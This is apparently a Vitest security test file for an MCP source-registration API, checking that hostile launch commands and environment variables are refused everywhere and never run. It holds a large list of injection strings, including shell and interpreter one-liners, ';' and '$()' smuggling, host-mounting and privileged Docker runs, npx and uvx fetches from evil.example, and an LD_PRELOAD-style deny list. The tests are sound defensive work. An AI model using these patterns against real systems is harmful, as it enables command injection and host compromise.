import { existsSync, readdirSync } from 'node:fs';
import { join } from 'node:path';
import { afterAll, beforeAll, expect, test } from 'vitest';
import { parseImport } from '../../src/sources/import/read-import.ts';
import type { ApiClient } from '../fixtures/api-client.ts';
import { fixture, startOpenServer, type OpenServer } from '../fixtures/open-server.ts';
import { pluginDirectory } from '../mcp/registration-fixture.ts';

let server: OpenServer;
let admin: ApiClient;
let marker: string;

beforeAll(async () => {
  server = await startOpenServer();
  admin = server.admin;
  marker = join(server.dataDir, 'it-ran');
  await admin.post('/api/sources', { name: 'Existing', mcp_command: fixture('plain'), enabled: false });
});
afterAll(() => server[Symbol.asyncDispose]());

/** Sends a registration to every place that takes one. Gives what each answered with. */
async function answers(form: object): Promise<[place: string, status: number, code: string][]> {
  const sent = [
    ['register', await admin.post('/api/sources', { name: 'Hostile', ...form })],
    ['preview', await admin.post('/api/sources/preview', { name: 'Hostile', ...form })],
    ['test connection', await admin.post('/api/sources/preview?discover=true', { name: 'Hostile', ...form })],
    ['replace', await admin.put('/api/sources/existing', { name: 'Existing', ...form })],
  ] as const;
  return sent.map(([place, { status, json }]) => [place, status, json.code]);
}

const refusedEverywhere = ['register', 'preview', 'test connection', 'replace'].map((place) => [place, 400, 'VALIDATION_ERROR']);

/** Nothing was registered, nothing is recorded as started, and what would have been run has left no trace. */
async function expectNothingRan(): Promise<void> {
  expect((await admin.get('/api/sources')).json.sources.map(({ name }: { name: string }) => name)).not.toContain('Hostile');
  expect((await admin.get('/api/sources/existing')).json.definition.command).toEqual(fixture('plain'));
  expect(readdirSync(join(server.dataDir, 'processes'))).toEqual([]);
  expect(existsSync(marker)).toBe(false);
}

const touching = () => `require('fs').writeFileSync(${JSON.stringify(marker)}, '')`;
const address = () => `data:text/javascript,import fs from 'fs';fs.writeFileSync(${JSON.stringify(marker)}, '')`;

/** Each would leave the marker behind if it were started, or comes near to what others have been tricked with. */
const hostile: [what: string, command: () => string[]][] = [
  ['npx -c', () => ['npx', '-c', `touch ${marker}`]],
  ['npx --call', () => ['npx', '--call', `touch ${marker}`]],
  ['npx --call=', () => ['npx', '-y', `--call=touch ${marker}`]],
  ['npx -p and -c', () => ['npx', '-p', 'cowsay', '-c', `touch ${marker}`]],
  ['npx with a shell', () => ['npx', '-p', 'cowsay', 'sh', '-c', `touch ${marker}`]],
  ['npx with a program of the machine', () => ['npx', '-p', 'cowsay', 'env', 'touch', marker]],
  ['a package with a command behind it', () => ['npx', `cowsay; touch ${marker}`]],
  ['a package with a substitution', () => ['npx', `$(touch ${marker})`]],
  ['a package from an address', () => ['npx', 'https://evil.example/x.tgz']],
  ['a package from a repository', () => ['npx', 'github:evil/x']],
  ['uvx with a command behind it', () => ['uvx', `x;touch ${marker}`]],
  ['uvx from a repository', () => ['uvx', '--from', 'git+https://evil.example/x', 'x']],
  ['uvx with Python', () => ['uvx', '--from', 'cowsay', 'python', '-c', `open(${JSON.stringify(marker)}, 'w')`]],
  ['node -e', () => [process.execPath, '-e', touching()]],
  ['node -p', () => [process.execPath, '-p', touching()]],
  ['node --eval=', () => [process.execPath, `--eval=${touching()}`]],
  ['node --print', () => [process.execPath, '--print', touching()]],
  ['node --import of an address', () => [process.execPath, '--import', address(), 'x.js']],
  ['node -r of an address', () => [process.execPath, '-r', address(), 'x.js']],
  ['node with an address for a script', () => [process.execPath, address()]],
  ['node without a script', () => [process.execPath]],
  ['python -c', () => ['python3', '-c', `open(${JSON.stringify(marker)}, 'w')`]],
  ['python -c among other letters', () => ['python3', '-Ic', `open(${JSON.stringify(marker)}, 'w')`]],
  ['python -m timeit', () => ['python3', '-m', 'timeit', `open(${JSON.stringify(marker)}, 'w')`]],
  ['sh -c', () => ['sh', '-c', `touch ${marker}`]],
  ['bash by its path', () => ['/bin/bash', '-c', `touch ${marker}`]],
  ['env', () => ['/usr/bin/env', 'touch', marker]],
  ['timeout', () => ['timeout', '5', 'touch', marker]],
  ['find -exec', () => ['find', '/tmp', '-maxdepth', '0', '-exec', 'touch', marker, ';']],
  ['perl -e', () => ['perl', '-e', `open(F, '>', '${marker}')`]],
  ['awk', () => ['awk', `BEGIN { system("touch ${marker}") }`]],
  ['a whole command line for a program', () => [`touch ${marker}`]],
  ['a program with a command behind it', () => [`x; touch ${marker}`]],
  ['a program that is filled in later', () => ['${SHELL}', '-c', `touch ${marker}`]],
  ['a container with the whole machine', () => ['docker', 'run', '-v', '/:/host', 'alpine', 'touch', `/host${marker}`]],
  ['a container with the socket of Docker', () => ['docker', 'run', '-v', '/var/run/docker.sock:/s', 'alpine']],
  ['a privileged container', () => ['docker', 'run', '--privileged', 'alpine']],
  ['docker exec', () => ['docker', 'exec', 'x', 'touch', marker]],
];

test.each(hostile)('[SEC-2] %s is refused wherever a registration can be sent, and nothing runs', async (_what, command) => {
  expect(await answers({ mcp_command: command() })).toEqual(refusedEverywhere);
  await expectNothingRan();
});

test.each(hostile)('[SEC-2] [SRC-7] a manifest with %s is refused', async (_what, command) => {
  const manifest = { name: 'hostile', version: '1', packages: [{ command: command() }] };
  const mcp_plugin_dir = await pluginDirectory({ 'plugin.json': manifest });
  expect(await answers({ mcp_plugin_dir })).toEqual(refusedEverywhere);
  await expectNothingRan();
});

test.each(hostile)('[SEC-2] [SRC-4] %s in the configuration of another client is refused', async (_what, command) => {
  const [program, ...args] = command();
  const { registrations } = parseImport(JSON.stringify({ mcpServers: { Hostile: { command: program, args } } }));
  for (const { form } of registrations) expect(await answers(form)).toEqual(refusedEverywhere);
  await expectNothingRan();
});

test.each<[what: string, package_: () => object]>([
  ['a command behind its name', () => ({ package_type: 'npm', identifier: `cowsay; touch ${marker}` })],
  ['an option for a name', () => ({ package_type: 'npm', identifier: '-c' })],
  ['an option with a value for a name', () => ({ package_type: 'npm', identifier: `--call=touch ${marker}` })],
  ['a command behind its version', () => ({ package_type: 'npm', identifier: 'cowsay', version: `1 && touch ${marker}` })],
  ['an option for a Python name', () => ({ package_type: 'pypi', identifier: '--from' })],
  ['a substitution in a Python name', () => ({ package_type: 'pypi', identifier: '`touch x`' })],
  ['an option for an image', () => ({ package_type: 'docker', identifier: '--privileged' })],
  ['a command behind its image', () => ({ package_type: 'docker', identifier: `alpine touch ${marker}` })],
  ['a shell for a binary', () => ({ package_type: 'binary', identifier: '/bin/sh', args: ['-c', `touch ${marker}`] })],
])('[SEC-2] a package with %s is refused', async (_what, packageOf) => {
  expect(await answers({ mcp: { package: packageOf(), transport: { type: 'stdio' } } })).toEqual(refusedEverywhere);
  await expectNothingRan();
});

test.each([
  'NODE_OPTIONS',
  'node_options',
  'LD_PRELOAD',
  'LD_LIBRARY_PATH',
  'DYLD_INSERT_LIBRARIES',
  'npm_config_registry',
  'NPM_CONFIG_SCRIPT_SHELL',
])('[SEC-2] [ENV-6] the variable %s is refused, in a manifest too', async (name) => {
  expect(await answers({ mcp_command: fixture('plain'), mcp_env_vars: { [name]: 'x' } })).toEqual(refusedEverywhere);
  const packages = [{ command: ['npx', 'cowsay'], environment_variables: [{ name }] }];
  const mcp_plugin_dir = await pluginDirectory({ 'plugin.json': { name: 'hostile', packages } });
  expect(await answers({ mcp_plugin_dir })).toEqual(refusedEverywhere);
  await expectNothingRan();
});

test('[SEC-2] [SRC-7] a value for a slot of a manifest cannot become an option', async () => {
  const packages = [
    {
      registryType: 'npm',
      identifier: '@example/files',
      transport: { type: 'stdio' },
      packageArguments: [{ type: 'positional', valueHint: 'folder' }],
    },
  ];
  const mcp_plugin_dir = await pluginDirectory({
    'server.json': { name: 'io.example/files', version: '1.0.0', description: '', packages },
  });
  const slot = (folder: string) => ({ mcp_plugin_dir, mcp_config: { folder } });
  expect(await answers(slot('--allow-everything'))).toEqual(refusedEverywhere);
  const { json } = await admin.post('/api/sources/preview', { name: 'Files', ...slot('-3') });
  expect(json.starts.command.at(-1)).toBe('-3');
  await expectNothingRan();
});

test('[SEC-2] an ordinary argument arrives unchanged, whatever is in it', async () => {
  const args = [
    `$(touch ${marker})`,
    `; touch ${marker}`,
    `\`touch ${marker}\``,
    `| tee ${marker}`,
    `&& touch ${marker}`,
    `> ${marker}`,
    '*',
    '~',
    '\'"\\',
    'a\nb',
  ];
  const { json } = await admin.post('/api/sources?wait=20000', { name: 'Literal', mcp_command: [...fixture('plain'), ...args] });
  expect(json.status.state).toBe('running');
  const { content } = (await admin.call('literal:process')).json;
  expect(JSON.parse(content[0].text).arguments).toEqual(['plain', ...args]);
  expect(existsSync(marker)).toBe(false);
  await admin.delete(`/api/sources/${json.id}`);
});
